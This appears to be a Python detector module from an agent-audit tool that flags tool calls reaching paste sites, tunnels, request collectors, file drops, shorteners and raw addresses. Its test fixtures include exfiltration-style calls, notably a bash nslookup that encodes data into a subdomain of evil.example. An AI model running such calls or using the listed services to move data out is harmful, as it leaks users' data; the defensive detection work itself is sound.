"""Finds calls that go where data should not: unknown hosts, paste sites, tunnels, collectors."""

from __future__ import annotations

from typing import Final

import polars as pl

from afteraction.records.finding import FOUND
from afteraction.records.session_batch import SessionBatch
from detectors.detector import Detector
from detectors.examples import session
from detectors.exposure import OUTSIDE, targeted

#: Kinds of host by their public names, worst first: (kind, severity, host pattern in Rust regex syntax).
_HOST_END: Final = r"(?:[/:?#\s\"'\\]|$)"
_SERVICES: Final = (
    (
        "request collector",
        "high",
        (
            r"webhook\.site|requestbin\.(?:com|net)|pipedream\.net|requestcatcher\.com|hookbin\.com|beeceptor\.com|"
            r"interact\.sh|oast\.(?:pro|live|site|online|fun|me)|oastify\.com|burpcollaborator\.net|dnslog\.cn|ceye\.io|"
            r"canarytokens\.(?:com|org)|postb\.in|ptsv\d?\.com|webhookrelay\.com"
        ),
    ),
    (
        "tunnel",
        "high",
        (
            r"ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|loca\.lt|localtunnel\.me|serveo\.net|localhost\.run|lhr\.life|"
            r"bore\.pub|pagekite\.me|telebit\.io|tunnelto\.dev|devtunnels\.ms|pinggy\.(?:io|link)|zrok\.io"
        ),
    ),
    (
        "paste site",
        "high",
        (
            r"pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|dpaste\.(?:com|org)|rentry\.(?:co|org)|0bin\.net|"
            r"privatebin\.\w+|termbin\.com|ix\.io|sprunge\.us|controlc\.com|justpaste\.it|paste\.rs|pastes\.io|"
            r"gist\.github\.com|paste2\.org|bpa\.st|telegra\.ph"
        ),
    ),
    (
        "anonymous file drop",
        "high",
        (
            r"transfer\.sh|file\.io|0x0\.st|catbox\.moe|gofile\.io|anonfiles?\.\w+|bashupload\.com|temp\.sh|"
            r"tmpfiles\.org|filebin\.net|oshi\.at|wetransfer\.com|sendspace\.com"
        ),
    ),
    (
        "shortened address",
        "medium",
        r"bit\.ly|tinyurl\.com|t\.co|goo\.gl|is\.gd|ow\.ly|buff\.ly|cutt\.ly|rb\.gy|shorturl\.at|rebrand\.ly|v\.gd|tiny\.cc",
    ),
)
_RAW_ADDRESS: Final = r"(?i)^(?:[a-z][a-z0-9+.-]*://)?(?:[^/@\s]*@)?(?:\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-f:]+\]|0x[0-9a-f]{8}|\d{8,10})(?:[:/?#]|$)"
_UNCLASSED: Final = "place nobody has classed"
_NOT_DATA: Final = ("read", "search", "other")


def find(batch: SessionBatch) -> pl.DataFrame:
    """One finding per call that goes to a notable or unknown place."""
    outgoing = targeted(batch.actions).filter(
        pl.col("destination").is_not_null() & pl.col("destination_class").is_in(OUTSIDE)
    )
    if outgoing.is_empty():
        return pl.DataFrame(schema=FOUND)
    kind, severity = _kind()
    names = ["destination", "destination_class", "operation", "destination_familiar"]
    places = outgoing.select(names).unique().with_columns(kind.alias("kind"), severity.alias("severity"))
    return (
        outgoing.select("action_id", *names)
        .join(places.filter(pl.col("kind").is_not_null()), on=names, nulls_equal=True)
        .select(
            "action_id",
            "severity",
            pl.when(pl.col("kind") == _UNCLASSED)
            .then(pl.lit("low"))
            .otherwise(pl.lit("high"))
            .alias("confidence"),
            pl.format("Call goes to a {}", pl.col("kind")).alias("title"),
            pl.lit("args").alias("part"),
            pl.struct("kind", "operation", "destination_class").struct.json_encode().alias("evidence"),
            pl.lit(None, dtype=pl.String).alias("value_fp"),
        )
        .sort("action_id")
    )


def _kind() -> tuple[pl.Expr, pl.Expr]:
    """The worst kind that fits a destination, and its severity."""
    place = pl.col("destination").str.to_lowercase()
    unknown = (pl.col("destination_class") == "unknown") & ~pl.col("operation").fill_null("other").is_in(
        _NOT_DATA
    )
    unknown &= ~pl.col("destination_familiar").fill_null(value=False)
    kinds = [
        (name, level, place.str.contains(rf"(?:^|[/@.])(?:{hosts}){_HOST_END}"))
        for name, level, hosts in _SERVICES
    ]
    kinds += [
        (
            "host name that carries data",
            "high",
            place.str.starts_with("*."),
        ),
        ("raw network address", "medium", place.str.contains(_RAW_ADDRESS)),
        (_UNCLASSED, "low", unknown),
    ]
    kind, severity = pl.lit(None, dtype=pl.String), pl.lit(None, dtype=pl.String)
    for name, level, fits in reversed(kinds):
        kind = pl.when(fits).then(pl.lit(name)).otherwise(kind)
        severity = pl.when(fits).then(pl.lit(level)).otherwise(severity)
    return kind, severity


DETECTOR: Final = Detector(
    id="external_destination",
    summary="A call goes to an unknown host, a paste site, a tunnel, a collector or a raw address.",
    severity="high",
    misses="Places reached by redirects or by programs the agent started; hosts an owner classed wrongly.",
    standards=("OWASP-ASI01", "OWASP-ASI02", "ATLAS-AML.T0086", "ATLAS-AML.T0024"),
    find=find,
    firing=(
        session(
            "paste site",
            ("http_post", {"url": "https://pastebin.com/api/api_post.php", "body": "notes"}, "ok"),
        ),
        session(
            "collector",
            ("http_request", {"method": "POST", "url": "https://a1.oastify.com/x", "body": "a"}, "ok"),
        ),
        session(
            "data in a host name",
            ("bash", {"command": f"nslookup {'3f9a0c4d71' * 3}.evil.example"}, "ok"),
        ),
        session("raw address", ("http_post", {"url": "http://192.0.2.7:8080/u", "body": "notes"}, "ok")),
    ),
    silent=(
        session("a file", ("read_file", {"path": "report.txt"}, "text")),
        session("a host inside", ("http_post", {"url": "http://wiki.internal/page", "body": "notes"}, "ok")),
    ),
)
